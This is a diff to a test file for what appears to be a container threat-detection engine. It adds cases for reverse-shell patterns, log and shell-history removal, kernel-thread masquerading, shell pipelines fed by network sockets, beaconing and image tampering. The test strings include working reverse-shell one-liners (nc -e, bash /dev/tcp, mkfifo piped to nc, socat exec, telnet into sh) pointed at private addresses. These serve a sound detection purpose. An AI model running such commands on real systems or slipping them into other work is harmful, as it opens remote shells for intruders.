@@ -21,8 +21,8 @@ describe('command patterns', () => {
     expect(BASE64_TO_SHELL.test('echo aGk= | base64 -d | sh')).toBe(true);
     expect(BASE64_TO_SHELL.test('base64 -d cert.b64 > cert.pem')).toBe(false);
     const rs = (s: string) => REVERSE_SHELL_PATTERNS.some(([re]) => re.test(s));
-    for (const bad of ['nc 10.0.0.1 4444 -e /bin/sh', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'socat tcp:1.2.3.4:80 exec:/bin/sh', 'ncat --exec /bin/sh 1.2.3.4 9', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 80 > /tmp/f']) expect(rs(bad), bad).toBe(true);
-    for (const ok of ['nc -z db 5432', 'nc -l -p 8080', 'socat TCP-LISTEN:80,fork TCP:app:8080', 'python3 -m http.server']) expect(rs(ok), ok).toBe(false);
+    for (const bad of ['nc 10.0.0.1 4444 -e /bin/sh', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'socat tcp:1.2.3.4:80 exec:/bin/sh', 'ncat --exec /bin/sh 1.2.3.4 9', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 80 > /tmp/f', 'sh -i 2>&1 | nc 10.0.0.1 4444', 'nc -l -p 4446 | sh', 'nc 10.0.0.1 1 | /bin/bash 2>&1 | nc 10.0.0.1 2', 'telnet 10.0.0.1 23 | sh -i', 'socat tcp:1.2.3.4:80 system:sh']) expect(rs(bad), bad).toBe(true);
+    for (const ok of ['nc -z db 5432', 'nc -l -p 8080', 'socat TCP-LISTEN:80,fork TCP:app:8080', 'python3 -m http.server', 'while :; do date; sleep 5; done | nc metrics 2003', 'sh -c "ls | grep x"', 'nc -z db 5432 && sh start.sh']) expect(rs(ok), ok).toBe(false);
   });
 });
 
@@ -90,6 +90,27 @@ describe('file detectors', () => {
   });
 });
 
+describe('indicator-removal', () => {
+  it('groups removed logs per cause; rotation with a sibling, growth and API-only changes are quiet', () => {
+    const c = container({}, { files: [
+      { path: '/var/log/wtmp', kind: 'deleted' },
+      { path: '/var/log/app.log', kind: 'changed', size: 0, imageSize: 900 },
+      { path: '/var/log/app.log.1', kind: 'added', size: 900 },
+      { path: '/var/log/nginx/error.log', kind: 'changed', size: 10, imageSize: 400 },
+      { path: '/var/log/dpkg.log', kind: 'changed', size: 500, imageSize: 400 },
+      { path: '/var/log/other.log', kind: 'changed' },
+      { path: '/root/.bash_history', kind: 'changed', size: 0, imageSize: 120 },
+      { path: '/etc/hosts', kind: 'deleted' },
+    ] });
+    const hits = run(engine([c]), 'indicator-removal');
+    expect(hits.map((f) => [f.severity, f.attack.join(), f.evidence.map((e) => e.ref).join()]).sort()).toEqual([
+      ['high', 'T1070.002', '/var/log/wtmp'],
+      ['high', 'T1070.003', '/root/.bash_history'],
+      ['medium', 'T1070.002', '/var/log/nginx/error.log'],
+    ]);
+  });
+});
+
 describe('process detectors', () => {
   it('suspicious-exe-location: memfd critical; masquerading: daemon name on a foreign binary, not interpreters', () => {
     const c = container({}, { processes: hostProcs('x', [
@@ -102,6 +123,51 @@ describe('process detectors', () => {
     const ev = engine([c]);
     expect(run(ev, 'suspicious-exe-location').map((f) => [f.severity, f.attack])).toEqual([['critical', ['T1620']], ['high', ['T1036.005']]]);
     expect(run(ev, 'process-masquerading').map((f) => f.severity)).toEqual(['critical', 'high']);
+  });
+
+  it('process-masquerading: kernel-thread looks by argv[0] with arguments, bracketed or prctl comm, emptied argv; not daemon titles or applets', () => {
+    const c = container({}, { processes: hostProcs('x', [
+      { comm: 'x', exe: '/opt/app/bin/agentd', cmdline: '[kworker/u8:2] --pool 127.0.0.1' },
+      { comm: '[kworker/1:0]', exe: '/bin/busybox', cmdline: 'sh -c loop' },
+      { comm: 'kworker/0:1H', exe: '/opt/app/bin/agentd', cmdline: '' },
+      { comm: 'agentd', exe: '/opt/app/bin/agentd', cmdline: '[nvme-reset-wq]' },
+      { comm: 'khungtaskd', exe: '/usr/bin/x', cmdline: 'x' },
+      { comm: 'postgres', exe: '/usr/lib/postgresql/15/bin/postgres', cmdline: 'postgres: writer process' },
+      { comm: 'celery', exe: '/usr/local/bin/celery', cmdline: '[celeryd: celery@w1:MainProcess] -active- (worker)' },
+      { comm: 'crond', exe: '/bin/busybox', cmdline: 'crond -b' },
+      { comm: '[', exe: '/bin/busybox', cmdline: '[ -d / ]' },
+      { comm: 'zombie', cmdline: '' },
+    ]) });
+    const hits = run(engine([c]), 'process-masquerading');
+    expect(hits.map((f) => [f.severity, f.attack.join()])).toEqual(Array(5).fill(['critical', 'T1036.004']));
+    expect(hits.map((f) => f.evidence[0]!.ref).sort()).toEqual(['pid 1000', 'pid 1001', 'pid 1002', 'pid 1003', 'pid 1004']);
+  });
+
+  it('shell-pipeline: follows pipes and named pipes from the network holder to the shell; shared writers and data readers are not joined', () => {
+    const sock = (inode: number, over: Record<string, unknown> = {}) => ({ inode, localPort: 40000 + inode, remoteAddress: '10.0.0.9', remotePort: 4444, ...over });
+    const log = 'pipe:[1]';
+    const c = container({}, {
+      processes: hostProcs('x', [
+        { pid: 10, comm: 'nc', exe: '/bin/busybox', cmdline: 'nc 10.0.0.9 4444', stdio: ['pipe:[20]', '/tmp/f', log], socketInodes: [501] },
+        { pid: 11, comm: 'cat', exe: '/bin/busybox', cmdline: 'cat /tmp/f', stdio: ['/dev/null', 'pipe:[21]', log], fdPaths: ['/tmp/f'] },
+        { pid: 12, comm: 'sh', exe: '/bin/busybox', cmdline: 'sh -i', stdio: ['pipe:[21]', 'pipe:[20]', 'pipe:[20]'] },
+        // A dev server and the shell loop that reads its log lines as data; both write to the engine's log pipe.
+        { pid: 20, comm: 'node', exe: '/usr/bin/node', cmdline: 'node server.js', stdio: ['/dev/null', 'pipe:[30]', log], socketInodes: [502] },
+        { pid: 21, comm: 'sh', exe: '/bin/bash', cmdline: 'sh -c while read l; do echo $l; done', stdio: ['pipe:[30]', log, log] },
+        // A metrics loop pushing to nc: output only, no commands back.
+        { pid: 30, comm: 'sh', exe: '/bin/dash', cmdline: 'sh -c while :; do date; sleep 5; done', stdio: ['/dev/null', 'pipe:[40]', log] },
+        { pid: 31, comm: 'nc', exe: '/usr/bin/nc', cmdline: 'nc metrics 2003', stdio: ['pipe:[40]', log, log], socketInodes: [503] },
+        // syslogd's stdin is its /dev/log unix socket: no network shell.
+        { pid: 40, comm: 'syslogd', exe: '/bin/busybox', cmdline: 'syslogd', stdio: ['socket:[600]', '/dev/null', '/dev/null'] },
+      ]),
+      sockets: [snap('x', '2026-11-23T10:05:00.000Z', [sock(501), sock(502, { state: 'LISTEN', remoteAddress: '0.0.0.0', remotePort: 0, localPort: 3000 }), sock(503, { remotePort: 2003 }), { protocol: 'unix', inode: 600, localAddress: '/dev/log', localPort: 0 }])],
+    });
+    const hits = run(engine([c]), 'shell-pipeline');
+    expect(hits.map((f) => [f.severity, f.summary.replace(/ in c\d+/, '')])).toEqual([
+      ['critical', 'Shell sh -i (pid 12) reads its commands from nc connected to 10.0.0.9:4444, through pipes nc(10) → cat(11) → sh(12), and its output goes back through sh(12) → nc(10).'],
+      ['low', 'Shell script sh -c while :; do date; sleep 5; done (pid 30) pipes its output to nc connected to 10.0.0.9:2003 (dash(30) → nc(31)); it reads no commands from the network.'],
+    ]);
+    expect(run(engine([c]), 'reverse-shell')).toEqual([]);
   });
 
   it('hidden-processes: host-only PIDs, ignoring processes that started after the in-container read', () => {
@@ -161,6 +227,19 @@ describe('network detectors', () => {
 
 describe('lifecycle and image detectors', () => {
   const stats = (cpus: number[]) => cpus.map((cpuPercent, i) => ({ at: `2026-11-23T10:00:0${i}Z`, cpuPercent, memoryBytes: 1, pids: 1, netRxBytes: 0, netTxBytes: 0 }));
+  it('beaconing: one snapshot of TIME_WAIT rows dates the closes; a declared service is low, an irregular client silent', () => {
+    const at = '2026-11-23T10:05:00.000Z';
+    // Closed 2 s apart (timers 50, 52, 54, 56 s left), to an undeclared internal endpoint on 443.
+    const tw = (left: number[], remoteAddress: string, remotePort: number) => left.map((s, i) => ({ remoteAddress, remotePort, localPort: 41000 + remotePort + i, state: 'TIME_WAIT', timeWaitLeftMs: s * 1000 }));
+    const beacon = container({}, { sockets: [snap('x', at, tw([50, 52, 54, 56], '172.18.0.5', 443))] });
+    const poller = container({}, { sockets: [snap('x', at, tw([50, 52, 54, 56], '172.18.0.9', 8080))] });
+    const web = container({ networks: [{ name: 'n', ipAddress: '172.18.0.9', networkId: 'n' }], exposedPorts: ['8080/tcp'] });
+    const irregular = container({}, { sockets: [snap('x', at, tw([20, 21, 28, 30, 39, 40], '172.18.0.5', 443))] });
+    const f = run(engine([beacon, poller, web, irregular]), 'beaconing');
+    expect(f.map((x) => [x.container?.id, x.severity]).sort()).toEqual([[beacon.container.id, 'medium'], [poller.container.id, 'low']].sort());
+    expect(f.find((x) => x.container?.id === beacon.container.id)!.summary).toMatch(/4 connections to 172\.18\.0\.5:443, an internal endpoint no container here declares, about every 2\.0 s \(jitter 0 %, 1 snapshot\)/);
+  });
+
   it('resource-hijack: spike vs own baseline low, always-busy silent, miner with spike critical', () => {
     const spike = container({}, { stats: stats([3, 4, 95, 97, 96, 98]) });
     const busy = container({}, { stats: stats([95, 96, 97, 95, 96, 98]) });
@@ -190,6 +269,16 @@ describe('lifecycle and image detectors', () => {
     const g = run(engine([c], { execs: probes }), 'exec-into-container');
     expect(g.map((y) => [y.severity, y.evidence.length])).toEqual([['low', 3]]);
     expect(g[0]!.summary).toContain('3 times between 2026-11-23T10:00:00Z and 2026-11-23T10:02:00Z');
+  });
+
+  it('image-tampering judges an image once and lists the containers that run it', () => {
+    const imageId = 'sha256:' + sha('imported');
+    const users = [1, 2, 3].map(() => container({ imageId, image: 'local/app:dev' }));
+    const ev = engine(users, { images: [{ id: imageId, repoTags: ['local/app:dev'], repoDigests: [], created: '2026-11-01T00:00:00Z', cmd: [], entrypoint: [], exposedPorts: [], env: [], history: [] }] });
+    const f = run(ev, 'image-tampering');
+    expect(f.map((x) => [x.severity, x.container])).toEqual([['low', undefined]]);
+    expect(f[0]!.summary).toContain('runs 3 containers');
+    expect(f[0]!.evidence.filter((e) => e.kind === 'inspect').map((e) => e.ref).sort()).toEqual(users.map((u) => `${u.container.id.slice(0, 12)}:Image`).sort());
   });
 
   it('image-tampering: a tag moved under a running container, and build history that installs a miner', () => {
